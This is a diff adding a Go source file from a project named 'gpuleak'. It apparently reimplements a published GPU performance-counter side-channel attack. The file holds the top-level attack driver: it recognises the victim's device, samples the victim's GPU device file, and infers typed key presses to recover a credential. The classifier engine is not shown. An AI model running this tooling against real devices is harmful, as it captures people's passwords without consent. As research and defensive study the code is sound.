@@ -1,0 +1,121 @@
+package attack
+
+import (
+	"fmt"
+	"math"
+
+	"gpuleak/internal/kgsl"
+	"gpuleak/internal/sim"
+	"gpuleak/internal/trace"
+)
+
+// Result is the outcome of one eavesdropping run.
+type Result struct {
+	// Model identifies the classifier chosen by device recognition.
+	Model ModelKey
+	// Keys are the inferred key presses (corrections already applied).
+	Keys []InferredKey
+	// Text is the eavesdropped credential.
+	Text string
+	// Stats reports the engine's internal bookkeeping.
+	Stats EngineStats
+	// EstimatedLength is the input length recovered from echo redraws
+	// (§5.3/§9.1); -1 when no echo was observed.
+	EstimatedLength int
+}
+
+// Attack is the end-to-end attacking application: preloaded per-device
+// classification models, a polling interval, and the online engine
+// options. It mirrors the victim-side monitoring service of Figure 4.
+type Attack struct {
+	// Models are the preloaded classifiers, one per device configuration.
+	Models []*Model
+	// Interval is the counter polling period (default 8 ms).
+	Interval sim.Time
+	// Options tune the online engine.
+	Options OnlineOptions
+}
+
+// New builds an attack from preloaded models.
+func New(models ...*Model) *Attack {
+	return &Attack{Models: models, Interval: DefaultInterval}
+}
+
+// Recognize picks the classification model whose launch-frame fingerprint
+// best matches the first burst of activity in the delta stream (§3.2:
+// readings are first used to recognize the current device model and
+// configuration). The fingerprint window matches the offline labeling
+// window: two polling intervals, enough to reassemble a split launch
+// frame without swallowing unrelated events.
+func (a *Attack) Recognize(ds []trace.Delta, interval sim.Time) (*Model, error) {
+	if len(a.Models) == 0 {
+		return nil, fmt.Errorf("attack: no models preloaded")
+	}
+	if len(a.Models) == 1 {
+		return a.Models[0], nil
+	}
+	if len(ds) == 0 {
+		return nil, fmt.Errorf("attack: no activity to recognize a device from")
+	}
+	if interval <= 0 {
+		interval = DefaultInterval
+	}
+	first := ds[0].At
+	launch := ds[0].V
+	for _, d := range ds[1:] {
+		if d.At-first > 2*interval+sim.Millisecond {
+			break
+		}
+		launch = launch.Add(d.V)
+	}
+	var best *Model
+	bestDist := math.Inf(1)
+	for _, m := range a.Models {
+		// Normalize by the model's own launch magnitude so big-screen
+		// devices do not dominate.
+		norm := m.Launch.Norm(m.Weights)
+		if norm == 0 {
+			norm = 1
+		}
+		d := launch.Dist(m.Launch, m.Weights) / norm
+		if d < bestDist {
+			bestDist = d
+			best = m
+		}
+	}
+	return best, nil
+}
+
+// EavesdropTrace runs device recognition and the online engine over a
+// collected trace.
+func (a *Attack) EavesdropTrace(tr *trace.Trace) (*Result, error) {
+	ds := tr.Deltas()
+	m, err := a.Recognize(ds, tr.Interval)
+	if err != nil {
+		return nil, err
+	}
+	eng := NewEngine(m, tr.Interval, a.Options)
+	eng.ProcessAll(ds)
+	return &Result{
+		Model:           m.Key,
+		Keys:            eng.Keys(),
+		Text:            eng.Text(),
+		Stats:           eng.Stats(),
+		EstimatedLength: eng.EstimatedLength(),
+	}, nil
+}
+
+// Eavesdrop opens the sampling loop on a victim's GPU device file over
+// [start, end] and infers the typed credential. This is the full online
+// phase: poll counters, recognize the device, classify deltas.
+func (a *Attack) Eavesdrop(f *kgsl.File, start, end sim.Time) (*Result, error) {
+	s, err := NewSampler(f, a.Interval)
+	if err != nil {
+		return nil, err
+	}
+	tr, err := s.Collect(start, end)
+	if err != nil {
+		return nil, err
+	}
+	return a.EavesdropTrace(tr)
+}
